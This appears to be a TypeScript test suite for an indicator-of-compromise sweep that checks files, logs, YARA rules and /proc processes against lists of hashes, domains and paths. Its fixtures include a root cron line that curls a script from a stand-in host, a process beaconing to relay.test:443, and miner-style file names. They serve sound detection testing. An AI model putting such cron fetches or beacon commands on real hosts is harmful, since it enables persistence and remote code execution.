import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { processorClock } from '../../../../tests/support/processor-time.ts';
import { MemoryTree, type MemoryFile } from '../../../../tests/support/memory-tree.ts';
import type { Indicator, IndicatorKind } from '../../../match/indicators/format.ts';
import { IndicatorMatcher } from '../../../match/indicators/matcher.ts';
import { IndicatorSetBuilder } from '../../../match/indicators/set-builder.ts';
import { readWarnings } from '../../../match/indicators/shipped-warnings.ts';
import type { Warnings } from '../../../match/indicators/warning-list.ts';
import { loadYara } from '../../../match/yara/yara.ts';
import { LiveHost } from '../proc/live-host.ts';
import { RecordedProc, type ProcAnswer } from '../proc/recorded-proc.ts';
import { sweepTree, type SweepOptions } from './sweep.ts';
import { valuesIn } from './text-values.ts';

const digest = (name: string, text: string): string => createHash(name).update(text).digest('hex');

type Entry = readonly [IndicatorKind, string, Partial<Indicator>?];

function listed(...entries: readonly Entry[]): IndicatorMatcher {
  return listedBeside({}, ...entries);
}

function listedBeside(more: { readonly warnings?: Warnings }, ...entries: readonly Entry[]): IndicatorMatcher {
  const builder = new IndicatorSetBuilder();
  for (const [kind, value, own = {}] of entries) {
    builder.add('kit', { kind, value, description: null, confidence: null, expires_at: null, ...own });
  }
  return new IndicatorMatcher({ set: builder.build(), asOf: 1_800_000_000_000_000, ...more });
}

async function sweep(files: Readonly<Record<string, MemoryFile>>, options: SweepOptions) {
  const inspection = await sweepTree(new MemoryTree(files), { host: 'web1', ...options });
  const told = inspection.claims.map(({ detector, path, line, severity }) => [detector, path, line ?? 0, severity]);
  return { ...inspection, told };
}

it('what a warning list keeps back is in the verdict', async () => {
  const matcher = listedBeside({ warnings: readWarnings() }, ['address', '203.0.113.7'], ['domain', 'kit-cdn.com']);
  const files = { '/etc/cron.d/up': '203.0.113.7 203.0.113.7\n', '/etc/hosts': '203.0.113.7 kit-cdn.com\n' };
  const { told, notChecked } = await sweep(files, { matcher });
  expect(told).toEqual([['sweep/text', '/etc/hosts', 1, 'medium']]);
  expect(notChecked.find(({ why }) => why.includes('documentation-networks'))?.what).toMatch(
    /^\d places with a listed value, such as 203\.0\.113\.7$/,
  );
});

describe('files', () => {
  it('are found by any digest that a list names', async () => {
    const matcher = listed(
      ['md5', digest('md5', 'one')],
      ['sha1', digest('sha1', 'two')],
      ['sha256', digest('sha256', 'three')],
    );
    const { told, claims } = await sweep(
      { '/usr/bin/a': 'one', '/opt/b': 'two', '/srv/c': 'three', '/srv/d': 'four' },
      { matcher },
    );
    expect(told).toEqual([
      ['sweep/file', '/usr/bin/a', 0, 'high'],
      ['sweep/file', '/srv/c', 0, 'high'],
      ['sweep/file', '/opt/b', 0, 'high'],
    ]);
    const first = claims.at(-1);
    expect(first?.entities).toContainEqual({ kind: 'file-hash', value: digest('sha1', 'two') });
    expect(first?.reasons).toContainEqual({ what: 'SHA-256', value: digest('sha256', 'two') });
  });

  it('are found by what they name, with the line, also in rotated logs; programs and documentation are not searched', async () => {
    const matcher = listed(['address', '198.51.100.7'], ['domain', 'relay.test'], ['url', 'drop.test/kit']);
    const { told } = await sweep(
      {
        '/etc/cron.d/job': '# job\n* * * * * root curl http://drop.test/kit/a.sh\n',
        '/etc/hosts': '127.0.0.1 localhost\n198.51.100.7 updates\n',
        '/var/log/syslog.1.gz': gzipSync('a\nb\nquery of x.relay.test\n'),
        '/usr/share/doc/list.txt': '198.51.100.7\n',
      },
      { matcher },
    );
    expect(told).toEqual([
      ['sweep/text', '/etc/cron.d/job', 2, 'medium'],
      ['sweep/text', '/etc/hosts', 2, 'medium'],
      ['sweep/log', '/var/log/syslog.1.gz', 3, 'low'],
    ]);
  });

  it('do not fire for entries that have expired, and weigh what the list trusts', async () => {
    const matcher = listed(
      ['address', '198.51.100.7', { expires_at: 1 }],
      ['address', '198.51.100.8', { confidence: 50 }],
    );
    const { claims } = await sweep({ '/etc/hosts': '198.51.100.7\n198.51.100.8\n' }, { matcher });
    expect(claims.map(({ score, line }) => [score, line])).toEqual([[0.3, 2]]);
  });

  it('are found by their paths and names, folders too, without being read', async () => {
    const matcher = listed(['file', '/tmp/.x'], ['file', 'kdevtmpfsi']);
    const { told, claims } = await sweep(
      { '/tmp/.x/a': 'a', '/var/tmp/kdevtmpfsi': 'b', '/opt/kdevtmpfsi.bak': 'c' },
      { matcher },
    );
    expect(told).toEqual([
      ['sweep/name', '/var/tmp/kdevtmpfsi', 0, 'medium'],
      ['sweep/path', '/tmp/.x', 0, 'high'],
    ]);
    expect(claims[0]?.sentence).toBe('/var/tmp/kdevtmpfsi has the name kdevtmpfsi, listed by kit');
  });

  it('are shown to rules of YARA', async () => {
    const load = await loadYara([{ name: 'r', text: 'rule kit { strings: $a = "beacon" condition: $a }' }]);
    const { told, ran } = await sweep(
      { '/usr/bin/x': 'a beacon', '/etc/y': 'nothing' },
      load?.rules === undefined ? {} : { yara: load.rules },
    );
    expect(told).toEqual([['files/yara/kit', '/usr/bin/x', 0, 'high']]);
    expect(ran).toEqual(['files/yara']);
  });

  it('that are too large, and those there was no time for, are told', async () => {
    const matcher = listed(['sha256', digest('sha256', 'x')], ['address', '198.51.100.7']);
    const files = { '/etc/a': 'x'.repeat(100), '/etc/b': 'x' };
    const small = await sweep(files, { matcher, limits: { hashBytes: 10, textBytes: 10 } });
    expect(small.notChecked.map(({ what }) => what)).toEqual([
      'processes and connections',
      'digests of 1 files',
      'the text of 1 files',
    ]);
    expect(small.told).toEqual([['sweep/file', '/etc/b', 0, 'high']]);
    const late = await sweep(files, { matcher, limits: { seconds: -1 } });
    expect(late.notChecked.map(({ what }) => what)).toContain('all other folders, and files from /etc/a on');
  });

  it('are not told when they are the lists', async () => {
    const matcher = listed(['address', '198.51.100.7']);
    const files = { '/root/list.txt': '198.51.100.7', '/root/other.txt': '198.51.100.7' };
    const { told } = await sweep(files, { matcher, except: new Set(['/root/list.txt']) });
    expect(told.map(([, path]) => path)).toEqual(['/root/other.txt']);
  });

  it('are told up to a bound', async () => {
    const matcher = listed(['address', '198.51.100.7']);
    const files = Object.fromEntries(Array.from({ length: 8 }, (_none, index) => [`/etc/${index}`, '198.51.100.7']));
    const { claims, problems } = await sweep(files, { matcher, limits: { claims: 5 } });
    expect([claims.length, problems.map(({ code }) => code)]).toEqual([5, ['limit-reached']]);
  });
});

describe('processes', () => {
  const stat = (name: string): string =>
    Buffer.from(`7 (${name}) S 1 7 7 0 -1 0 ${'0 '.repeat(40)}`).toString('base64');
  const tcp = Buffer.from(
    'header\n 0: 0100007F:1F90 076433C6:01BB 01 00000000:00000000 00:00000000 00000000 0 0 4711 1 0\n',
  ).toString('base64');
  const answers: ProcAnswer[] = [
    { path: '.', names: ['7'] },
    { path: '7/stat', bytes: stat('kit') },
    { path: '7/exe', link: '/tmp/kit (deleted)', links: 0, bytes: Buffer.from('kit').toString('base64') },
    { path: '7/cmdline', bytes: Buffer.from('kit\0--to\0relay.test:443\0').toString('base64') },
    { path: '7/fd', names: ['3'] },
    { path: '7/fd/3', link: 'socket:[4711]' },
    { path: '7/ns/net', link: 'net:[1]' },
    { path: '7/net', exists: true },
    { path: '7/net/tcp', bytes: tcp },
  ];

  it('are found by their programs, command lines and connections', async () => {
    const matcher = listed(['sha256', digest('sha256', 'kit')], ['domain', 'relay.test'], ['address', '198.51.100.7']);
    const { told, claims } = await sweep({}, { matcher, live: new LiveHost(new RecordedProc(answers)) });
    expect(told).toEqual([
      ['sweep/program', '/proc/7', 0, 'critical'],
      ['sweep/command-line', '/proc/7', 0, 'high'],
      ['sweep/connection', '/proc/7', 0, 'high'],
    ]);
    expect(claims[0]?.sentence).toBe('process 7 (kit) runs /tmp/kit, listed by kit');
  });

  it('are found by their paths and names, and by paths that they were given', async () => {
    const matcher = listed(['file', '/tmp/kit'], ['file', 'kit'], ['file', '/tmp/other']);
    const given = answers.map((answer) =>
      answer.path === '7/cmdline'
        ? { ...answer, bytes: Buffer.from('python3\0/tmp/other\0').toString('base64') }
        : answer,
    );
    const { told } = await sweep({}, { matcher, live: new LiveHost(new RecordedProc(given)) });
    expect(told).toEqual([
      ['sweep/path', '/proc/7', 0, 'high'],
      ['sweep/name', '/proc/7', 0, 'medium'],
      ['sweep/path', '/proc/7', 0, 'high'],
    ]);
  });

  it('of a bundle are found by the digests that were taken', async () => {
    const matcher = listed(['sha256', 'f'.repeat(64)]);
    const live = new LiveHost(
      new RecordedProc(
        answers.map(({ bytes, ...rest }) =>
          rest.path === '7/exe' ? rest : { ...rest, ...(bytes === undefined ? {} : { bytes }) },
        ),
      ),
    );
    const { told } = await sweep({}, { matcher, live, programs: new Map([[7, 'f'.repeat(64)]]) });
    expect(told).toEqual([['sweep/program', '/proc/7', 0, 'critical']]);
  });
});

describe('valuesIn', () => {
  const values = (text: string): string[] => [...valuesIn(text)].map(({ type, value }) => `${type} ${value}`);

  it('finds URLs with their hosts, addresses, names and mail addresses', () => {
    expect(values('see http://a.test:80/x?y=1, [2001:db8::7]:443 and <b@c.test>, 10.0.0.1; d.test.')).toEqual([
      'url http://a.test:80/x?y=1',
      'host a.test',
      'host 2001:db8::7',
      'email b@c.test',
      'host 10.0.0.1',
      'host d.test',
    ]);
  });

  it('takes time that grows with the text only', () => {
    for (const part of ['a.', 'a', 'a@', '1:', 'http://', '-.', '....a']) {
      const text = part.repeat(200_000);
      const takenMs = processorClock();
      expect([...valuesIn(text)].length).toBeLessThan(text.length);
      expect(takenMs()).toBeLessThan(5000);
    }
  });

  it('tells what stands where it says', () => {
    fc.assert(
      fc.property(fc.string(), fc.domain(), fc.string(), (before, name, after) => {
        const text = `${before} ${name} ${after}`;
        const wrong = [...valuesIn(text)].filter(
          ({ type, value, at }) => type !== 'host' && !text.startsWith(value, at),
        );
        expect(wrong).toEqual([]);
        expect(values(text)).toContain(`host ${name}`);
      }),
    );
  });
});
